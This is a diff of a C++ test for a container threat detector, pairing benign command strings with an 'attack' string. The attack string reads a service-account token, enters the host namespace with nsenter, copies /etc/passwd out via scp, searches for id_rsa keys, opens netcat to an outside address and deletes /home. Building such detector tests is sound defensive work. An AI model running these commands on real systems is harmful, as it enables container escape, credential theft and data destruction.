@@ -130,28 +130,28 @@ TEST_CASE(
       {"Shell run in a privileged container", "", "", "container=" + priv},
   };
   // The benign neighbours: the same containers doing nearby harmless things.
-  const std::string benign =
-      in(plain, "cat " + sa +
-                    "/namespace; ls /proc/1/ns; cat /proc/mounts; /bin/true; ls /tmp; "
-                    "rm -rf /tmp/junk") +
-      "; " +
-      in(net,
-         "(busybox nc -l -p 443 </dev/null & ); sleep 0.3; "
-         "busybox nc -w 1 203.0.113.9 443 </dev/null") +
-      "; " + kPodman + " exec " + plain + " sh -c true";
+  // Applets are run by path: busybox's shell runs a bare applet name inside
+  // itself or through /proc/self/exe (comm "exe"); an image's real programs
+  // run as themselves.
+  auto talk = [&](const std::string& port) {
+    return in(net, "(/bin/timeout 2 /bin/busybox nc -l -p " + port +
+                       " </dev/null >/dev/null &); /bin/sleep 0.3; /bin/timeout 1 /bin/busybox nc "
+                       "203.0.113.9 " +
+                       port + " </dev/null");
+  };
+  const std::string benign = in(plain, "/bin/cat " + sa +
+                                           "/namespace; /bin/ls /proc/1/ns; /bin/cat /proc/mounts; "
+                                           "/bin/true; /bin/ls /tmp; /bin/rm -rf /tmp/junk") +
+                             "; " + talk("443") + "; " + kPodman + " exec " + plain + " sh -c true";
   const std::string attack =
-      in(plain, "cat " + sa +
-                    "/token; nsenter -t 1 -n true; mount -t tmpfs none /mnt; "
-                    "cp /bin/busybox /tmp/bb && /tmp/bb true; /tmp/kubectl get pods; "
+      in(plain, "/bin/cat " + sa +
+                    "/token; /bin/nsenter -t 1 -n true; /bin/mount -t tmpfs none /mnt; "
+                    "/bin/cp /bin/busybox /tmp/bb && /tmp/bb true; /tmp/kubectl get pods; "
                     "/tmp/ssh admin@10.0.0.1; /tmp/scp /etc/passwd backup@10.0.0.1:/x; "
-                    "ifconfig -a; rm -rf /home") +
-      "; " +
-      in(net,
-         "(busybox nc -l -p 4445 </dev/null & ); sleep 0.3; "
-         "busybox nc -w 1 203.0.113.9 4445 </dev/null") +
-      "; " + kPodman + " exec " + priv + " sh -c true";
+                    "/bin/ifconfig -a; /bin/rm -rf /home") +
+      "; " + talk("4445") + "; " + kPodman + " exec " + priv + " sh -c true";
   const int fired = run_table(d, cases,
-                              {in(plain, "find /tmp -name id_rsa"),
+                              {in(plain, "/bin/find / -name id_rsa"),
                                "Credentials searched for with find or grep", "container=" + plain},
                               benign, attack);
   CHECK(d.stop() == 0);
